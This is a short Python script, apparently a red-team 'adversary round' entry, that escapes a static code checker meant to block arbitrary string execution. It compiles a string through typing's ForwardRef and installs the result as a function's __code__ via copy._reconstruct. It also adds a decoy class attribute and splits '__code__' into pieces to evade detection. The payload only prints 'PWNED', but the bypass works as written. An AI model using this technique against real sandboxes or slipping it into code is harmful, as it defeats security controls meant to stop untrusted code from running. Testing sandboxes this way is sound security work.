# adversary round 6: typing.List[str] makes a ForwardRef whose __init__ compiles the program's string at typing's own compile( site (allowed); copy._reconstruct's setattr (library site) installs that code as __code__ of the program's function -> runs an arbitrary string
import typing, copy

class Own:
    _reconstruct = None   # makes the private name the program's own for the static check

src = "print('string-code running:', [1,2,3][::-1]), print('PW' + 'NED')"
alias = typing.List[src]
ref = alias.__args__[0]
code = ref.__forward_code__
print(type(code).__name__, code.co_filename)

def f():
    return None

def give():
    return f

copy._reconstruct(None, None, give, (), (None, {'__co' + 'de__': code}))
f()
